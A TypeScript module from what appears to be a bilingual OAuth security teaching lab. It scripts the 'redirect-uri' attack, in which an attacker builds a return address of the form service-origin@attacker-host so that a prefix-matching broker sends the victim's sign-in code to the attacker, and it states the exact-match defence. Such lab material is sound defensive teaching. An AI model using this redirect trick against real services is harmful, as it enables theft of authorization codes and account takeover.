/** A return address that seems to be the service's, and is the attacker's. */

import { ANGELA, abbreviate, callbackOf, PROVIDER, parameter, SERVICE } from '../actors.ts';
import { type Attack, fails, works } from '../attack.ts';

export const redirectUri: Attack = {
  id: 'redirect-uri',
  rfc: 'RFC 9700 §4.1',
  title: { fr: 'L’adresse de retour presque juste', en: 'The return address that is almost right' },
  hook: {
    fr: 'Elle commence comme celle des Impôts ; le code d’Angela arrive chez Malo.',
    en: 'It begins like the tax office’s; Angela’s code arrives at Malo’s.',
  },
  scene: {
    fr: 'Malo prépare un lien vers le vrai tiers de confiance. Seule l’adresse de retour est fausse : elle commence par celle des Impôts, mais tout ce qui précède le @ n’est qu’un nom d’utilisateur. La vraie destination vient après.',
    en: 'Malo prepares a link to the real broker. Only the return address is false: it begins with the tax office’s, but all that stands before the @ is a user name. The real destination comes after it.',
  },
  victimSees: {
    fr: 'Le vrai tiers de confiance, son vrai fournisseur d’identité, puis « Merci ».',
    en: 'The real broker, her real identity provider, then “Thank you”.',
  },
  attackerGains: {
    fr: 'Le code de connexion d’Angela. Il lui reste à s’en servir : c’est l’attaque « Le code volé ».',
    en: 'Angela’s sign-in code. He has yet to use it: that is the attack “The stolen code”.',
  },
  weakness: 'broker.redirect-uri-prefix',
  check: "if (weaknesses?.includes('broker.redirect-uri-prefix')) compareBeginnings(provider);",
  defence: {
    fr: 'Les adresses de retour sont enregistrées entières, et comparées caractère par caractère. Ni préfixe, ni joker, ni sous-chemin : presque juste est faux.',
    en: 'Return addresses are registered whole, and compared character by character. No prefix, no wildcard, no sub-path: almost right is wrong.',
  },
  refusal: 'Y04C013C',
  async play(lab, narrate) {
    const request = new URL(await lab.attacker.redirectTarget(`${lab.url(SERVICE)}/login`));
    const { host, pathname } = new URL(lab.url('attacker'));
    const { origin } = new URL(callbackOf(lab));
    const evil = `${origin}@${host}${pathname}/callback`;
    request.searchParams.set('redirect_uri', evil);
    narrate(
      'attacker',
      `Prépare un lien vers le tiers de confiance, avec l’adresse de retour ${evil}`,
      `Prepares a link to the broker, with the return address ${evil}`,
    );
    const page = await lab.victim.signIn({
      url: request.href,
      login: ANGELA.login,
      via: PROVIDER,
    });
    narrate(
      'victim',
      'Clique, et va aussi loin qu’elle peut.',
      'Clicks, and goes as far as she can.',
    );
    const captured = await lab.notebook.first('code');
    if (captured?.code)
      return works(
        `Le carnet de Malo contient le code d’Angela, ${abbreviate(captured.code)}`,
        `Malo’s notebook holds Angela’s code, ${abbreviate(captured.code)}`,
      );
    return fails(
      'Le tiers de confiance refuse dès la première page : cette adresse n’est pas enregistrée.',
      'The broker refuses on the very first page: this address is not registered.',
      page.refusal ?? parameter(page.url, 'error'),
    );
  },
};
